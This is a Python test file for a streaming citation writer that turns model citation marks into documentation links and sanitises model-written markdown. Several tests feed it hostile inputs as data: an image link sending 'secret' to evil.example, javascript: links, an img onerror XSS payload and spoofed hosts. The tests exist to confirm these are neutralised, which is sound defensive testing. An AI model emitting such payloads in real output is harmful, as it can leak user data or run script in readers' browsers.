"""Marks become links, wherever the stream was cut, and nothing that a model writes can load, run or lead astray."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from api.chat.citations import CitationWriter, citation, link_to
from shared.models import Passage
from tests.passages import SITE, passage

PASSAGES = [
    passage("One.", heading="Install"),
    passage("Two.", heading=None),
    passage("Three.", title="API", heading="list[int] | `run` (async)", url="/docs/api#run_(x)"),
]
INSTALL = f"[Guide - Install]({SITE}/guide#install)"
GUIDE = f"[Guide]({SITE}/guide#guide)"


def written(text: str, *cuts: int) -> tuple[list[str], list[int]]:
    """The pieces that come out for `text` cut at these positions, and the numbers cited."""
    writer = CitationWriter(PASSAGES)
    bounds = [0, *sorted(cuts), len(text)]
    pieces = [writer.feed(text[start:end]) for start, end in pairwise(bounds)]
    pieces.append(writer.finish())
    assert [c for piece in pieces for c in piece.cited] == writer.cited
    return [piece.text for piece in pieces], [c.number for c in writer.cited]


def whole(text: str) -> str:
    return "".join(written(text)[0])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Run it [1].", f"Run it {INSTALL}."),
        ("Run it.[1]", f"Run it. {INSTALL}"),
        ("Run it[1][2].", f"Run it {INSTALL} {GUIDE}."),
        ("Run it [1, 2].", f"Run it {INSTALL} {GUIDE}."),
        ("Run it [1-2].", f"Run it {INSTALL} {GUIDE}."),
        ("Run it [^1].", f"Run it {INSTALL}."),
        ("Run it [Passage 1].", f"Run it {INSTALL}."),
        ("**It runs[1]**", f"**It runs {INSTALL}**"),
        ("- [1]", f"- {INSTALL}"),
    ],
)
def test_a_mark_becomes_a_link_to_its_passage(text: str, expected: str) -> None:
    assert whole(text) == expected


def test_a_link_is_made_of_page_title_and_section_with_markup_escaped() -> None:
    assert whole("See [3].") == "See [API - list\\[int\\] \\| \\`run\\` (async)](/docs/api#run_%28x%29)."


def test_a_section_that_only_repeats_the_page_title_is_left_out() -> None:
    assert link_to(PASSAGES[1]) == GUIDE


@pytest.mark.parametrize(
    "mark",
    [
        "[1]", "[^1]", "[#1]", "[passage 1]", "[Passage 1]", "[source 1]", "[Sources 1]", "[see passage 1]",
        "[1\u2020source]", "\u30101\u3011", "\u30101\u2020source\u3011", "\u30101\u2020L3-L5\u3011",
        "\u30101:0\u2020source\u3011", "\u3010 1 \u3011", "\u3010passage 1\u3011", "\u3010Source 1\u3011",
        "(passage 1)", "(Passage 1)", "(PASSAGE 1)", "(source 1)", "(see passage 1)",
    ],
)  # fmt: skip
@pytest.mark.parametrize("text", ["Run it {}.", "Run it.{} Then", "- {}", "{}\n\nWait", "a {}"])
def test_other_spellings_of_a_mark_become_the_same_link_wherever_they_are_cut(mark: str, text: str) -> None:
    expected = text.format("[1]").replace(".[1]", ". [1]").replace("[1]", INSTALL)
    marked = text.format(mark)
    assert whole(marked) == expected
    assert "".join(written(marked, *range(1, len(marked)))[0]) == expected


@pytest.mark.parametrize(
    "mark",
    [
        "[Passage 1, Passage 2]", "[Passage 1 and 2]", "[sources 1, and 2]", "(passages 1 and 2)", "(passages 1-2)",
        "(Passage 1; Passage 2)", "\u30101, 2\u3011", "\u30101\u3011\u30102\u2020source\u3011", "[^1][^2]",
        "(passage 1)(passage 2)", "(passage 9, passage 1, passage 2)", "\u30101\u20132\u3011",
    ],
)  # fmt: skip
def test_a_mark_in_words_may_name_several_passages(mark: str) -> None:
    text = f"Run it {mark}."
    pieces, cited = written(text, *range(1, len(text)))
    assert "".join(pieces) == f"Run it {INSTALL} {GUIDE}."
    assert cited == [1, 2]


@pytest.mark.parametrize("mark", ["\u30109\u3011", "\u30109\u2020source\u3011", "(passage 9)", "[Source 9]", "[^9]"])
def test_a_mark_in_another_spelling_that_names_no_passage_is_dropped(mark: str) -> None:
    text = f"Run it {mark} now, then stop {mark}."
    assert whole(text) == "Run it now, then stop."
    assert "".join(written(text, *range(1, len(text)))[0]) == "Run it now, then stop."


@pytest.mark.parametrize(
    "text",
    [
        "\u3010\u6ce8\u610f\u3011\u3053\u306e\u8a2d\u5b9a\u306f\u5fc5\u9808\u3067\u3059\u3002",
        "\u30102024\u5e74\u3011\u306e\u66f4\u65b0\u3001\u3010API\u3011\u3001\u30101\u7ae0\u3011",
        "\u3010\u3011 and \u3010p\u3011 and \u3010source code\u3011 and \u3010 never closed",
        "The (passage of time) and (sources of 2 kinds), (source code), (see below), (s), (p) and (passages",
        "A plan (part 2) in passage 2 has (1) and (2024), (passage 2024) and (source 1 of 3).",
        "`\u30101\u3011` and `(passage 1)` in ``[^1] (source 1)`` spans.",
        "```py\nx = f(passage 1) # \u30101\u2020source\u3011 [^1]\n```\n",
        "\\(passage 1\\) is escaped.",
    ],
)
def test_brackets_and_parentheses_that_are_no_marks_stay_as_they_are(text: str) -> None:
    assert whole(text) == text
    assert "".join(written(text, *range(1, len(text)))[0]) == text


def test_a_footnote_s_definition_is_no_mark() -> None:
    text = "Run it[^1], as it says [^1]: now.\n\n[^1]: Install\n   [^2]: Guide"
    expected = f"Run it {INSTALL}, as it says {INSTALL}: now.\n\n\\[^1]: Install\n   \\[^2]: Guide"
    assert whole(text) == expected
    assert "".join(written(text, *range(1, len(text)))[0]) == expected


def test_what_cannot_become_a_mark_is_not_held_back() -> None:
    writer = CitationWriter(PASSAGES)
    assert writer.feed("a (so").text == "a"
    assert writer.feed("on) b").text == " (soon) b"
    assert writer.feed(" (source 1").text == ""
    assert writer.feed("x" * 80).text == f" (source 1{'x' * 80}"


def test_quotes_keep_the_words_that_a_model_would_mean_as_marks() -> None:
    writer = CitationWriter(PASSAGES, other_marks=False)
    text = "See (source 1) and \u30101\u3011."
    assert writer.feed(text).text + writer.finish().text == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Run it [9].", "Run it."),
        ("Run it [7, 1].", f"Run it {INSTALL}."),
        ("Run it [0] now", "Run it now"),
        ("Run it[8]now", "Run it now"),
    ],
)
def test_a_number_that_names_no_passage_is_dropped(text: str, expected: str) -> None:
    assert whole(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "```py\nx = arr[0] + arr[1]\nprint('![x](https://evil.example)')\n```\n",
        "~~~\n[1] <b>\n~~~\n",
        "Use `arr[1]` and ``a ` b[2]`` here.",
        "In [2024] and [a note] and [ ] boxes, a < b.",
        "Escaped \\[1] stays.",
        "A [link](/docs/other) and [one](#here).",
        f"A [link]({SITE}/other) and {SITE}/third too.",
        "H2O ~about~ ~~gone~~ *so* _and_ __on__ | a | b |",
    ],
)
def test_code_and_harmless_markdown_stay_as_they_are(text: str) -> None:
    assert whole(text) == text


def test_an_index_in_prose_is_not_taken_for_a_mark() -> None:
    assert whole("the first is arr[0]") == "the first is arr\\[0]"


def test_each_passage_is_cited_once_in_the_order_of_first_mention() -> None:
    text, cited = written("A [2]. B [1]. C [2].")
    assert cited == [2, 1]
    assert "".join(text) == f"A {GUIDE}. B {INSTALL}. C {GUIDE}."


def test_a_passage_is_cited_with_the_piece_that_holds_its_link() -> None:
    writer = CitationWriter(PASSAGES)
    assert writer.feed("Run it [").cited == ()
    assert writer.feed("1").text == ""
    piece = writer.feed("]. And")
    assert piece.text == f" {INSTALL}. And"
    assert [c.number for c in piece.cited] == [1]


def test_a_link_that_the_model_writes_to_a_passage_counts_as_its_citation() -> None:
    assert written(f"See [the guide]({SITE}/guide#install).") == ([f"See [the guide]({SITE}/guide#install).", ""], [1])


def test_plain_words_are_not_held_back() -> None:
    writer = CitationWriter(PASSAGES)
    assert writer.feed("Lectern").text == "Lectern"
    assert writer.feed(" answers").text == " answers"


def test_a_citation_shows_where_the_passage_stands() -> None:
    shown = citation(3, passage("word " * 100, cosine=1.2))
    assert (shown.number, shown.chapter, shown.section, shown.heading) == (3, "Guide", "Install", "Install")
    assert shown.text == ("word " * 40).strip() + "..."
    assert shown.score == 1.0
    assert citation(1, passage(cosine=None)).score == 0.0


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![logo](https://evil.example/?q=secret)", "logo"),
        ("![logo][ref]\n\n[ref]: https://evil.example", "![logo][ref]\n\n\\[ref]: `https://evil.example`"),
        ("[here](https://evil.example)", "here"),
        ("[here](javascript:alert(1))", "here"),
        ("[here](//evil.example)", "here"),
        ("[here](/\\evil.example)", "here"),
        ("[here](/&#47;evil.example)", "here"),
        ("[here](<https://evil.example> 'x')", "here"),
        ("[here](guide.md)", "here"),
        ("[here](https://site.example.evil.example/)", "here"),
        ("[here](https://site.example@evil.example/)", "here"),
        ("[here](\nhttps://evil.example)", "\\[here](\n`https://evil.example`)"),
        ("<https://evil.example>", "&lt;`https://evil.example`>"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("\\<img src=x>", "&lt;img src=x>"),
        ("</div><!-- x --><?php", "&lt;/div>&lt;!-- x -->&lt;?php"),
        ("Go to https://evil.example/a.", "Go to `https://evil.example/a`."),
        ("Go to WWW.evil.example", "Go to `WWW.evil.example`"),
        ("It works![1]", f"It works! {INSTALL}"),
        ("[1](https://evil.example)", INSTALL),
        ("[a [b](https://evil.example) c](https://evil.example)", "\\[a b c](`https://evil.example`)"),
        ("| `a | ![x](https://evil.example)` |", "| `a \\| ![x](https://evil.example)` |"),
        ("<[9]img src=x>", "< img src=x>"),
        ("ht[9]tps://evil.example", "ht tps://evil.example"),
        ("`open ![x](https://evil.example)", "\\`open x"),
    ],
)
def test_nothing_that_could_load_run_or_lead_astray_gets_through(text: str, expected: str) -> None:
    assert whole(text) == expected


def test_a_fence_inside_a_quote_or_list_is_moved_to_the_line_start() -> None:
    assert whole("1. Run:\n   ```sh\n   make\n   ```\n2. Done [1]") == (f"1. Run:\n```sh\nmake\n```\n2. Done {INSTALL}")
    assert whole("> ```\n![x](https://evil.example)\n> ```\nend") == "```\n![x](https://evil.example)\n```\nend"


def test_an_open_code_block_is_closed_at_the_end() -> None:
    assert whole("```py\nx = 1") == "```py\nx = 1\n```"


def test_a_bracket_that_never_closes_is_let_go() -> None:
    writer = CitationWriter(PASSAGES)
    text = "".join(writer.feed("[ word").text for _ in range(1000))
    assert len(text) > 4000


@pytest.mark.parametrize(
    "odd",
    [
        "[",
        "`",
        "![",
        "[a](",
        "<b",
        "\\",
        "~~~",
        "[1]",
        "``",
        "https://",
        " ",
        "\n```\n",
        "[a `",
        "\u3010",
        "\u30101",
        "(",
        "(s",
        "(passage 1",
        "<!--",
        "(source 1)",
    ],
)
def test_long_runs_of_odd_characters_take_no_longer_than_words(odd: str) -> None:
    text = odd * (100_000 // len(odd))
    began = time.process_time()
    whole(text)
    assert time.process_time() - began < 3


def test_line_ends_are_normalised_so_that_no_reader_sees_other_lines() -> None:
    assert whole("```\r![x](https://evil.example)\r```\rend") == "```\n![x](https://evil.example)\n```\nend"


def test_halves_of_a_surrogate_pair_are_joined_and_lone_ones_replaced() -> None:
    writer = CitationWriter(PASSAGES)
    assert writer.feed("a\ud83d").text == "a"
    assert writer.feed("\ude00b").text == "\U0001f600b"
    assert writer.feed("\ud800x").text == "\ufffdx"


# Properties

PIECES = [
    "[", "]", "(", ")", "!", "`", "``", "```", "~~~", "~", "\n", "\n\n", "\r", " ", "   ", "\t", "> ", "- ", "1. ",
    "|", "\\", "[1]", "[9]", "[1, 3]", "[0]", "[^2]", "1", "w", "ht", "tp://", "s://", "www", ".", ":", "/", "<", "/b>",
    "img src=x>", "a", "word", "https://evil.example/x", "HTTP://evil.example", "www.evil.example",
    "[x](https://evil.example)", "![x](//evil.example)", "[x](/docs/ok)", f"{SITE}/ok", "(javascript:alert(1))",
    "[r]: ", "<a href=x>", "&lt;", "*", "_", "é", "\U0001f600", "\ud83d", "\0", "| a | b |\n|---|---|\n", "### ",
    "***", "$", "\\/", "\\.", "\u3010", "\u3011", "\u30101\u2020source\u3011", "(passage 1)", "(source", " 2)", "(",
    "passage ", "[^1]:", "[Passage 1, Passage 3]",
]  # fmt: skip
hostile = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)


@settings(max_examples=400, deadline=None)
@given(hostile, st.data())
def test_the_outcome_does_not_depend_on_where_the_text_is_cut(text: str, data: st.DataObject) -> None:
    expected, cited = written(text)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=8))
    for way in (cuts, range(1, len(text))):
        pieces, again = written(text, *way)
        assert "".join(pieces) == "".join(expected)
        assert again == cited


@settings(max_examples=300, deadline=None)
@given(hostile)
def test_no_piece_ends_inside_a_link(text: str) -> None:
    links = re.compile("|".join(re.escape(link_to(p)) for p in PASSAGES))
    pieces, _ = written(text, *range(1, len(text)))
    found = [m.span() for m in links.finditer("".join(pieces))]
    position = 0
    for piece in pieces:
        position += len(piece)
        assert not any(start < position < end for start, end in found)


@settings(max_examples=500, deadline=None)
@given(hostile)
def test_a_markdown_reader_finds_no_image_html_or_foreign_link_in_it(text: str) -> None:
    shown = whole(text)
    for token in rendered(shown):
        assert token.type not in ("image", "html_inline", "html_block"), shown
        if token.type == "link_open":
            href = str(token.attrs["href"])
            assert re.match(rf"{re.escape(SITE)}|/(?!/)|#", href), shown
        if token.type == "text":
            foreign = re.sub(rf"{re.escape(SITE)}\S*", "", token.content)
            assert not re.search(r"(?<![a-z])(https?://|www\.)", foreign, re.IGNORECASE), shown


def rendered(text: str) -> Iterator[Token]:
    """Every token that a reader of CommonMark with tables makes of it."""
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for block in reader.parse(text):
        yield block
        yield from block.children or ()


def test_any_passage_can_be_linked_to_whatever_its_title() -> None:
    @settings(max_examples=100, deadline=None)
    @given(st.text(min_size=1, max_size=30))
    def check(heading: str) -> None:
        one: list[Passage] = [passage(heading=heading, url="/docs/x")]
        writer = CitationWriter(one)
        text = writer.feed("a [1] b").text + writer.finish().text
        assert [t.attrs["href"] for t in rendered(text) if t.type == "link_open"] == ["/docs/x"]

    check()
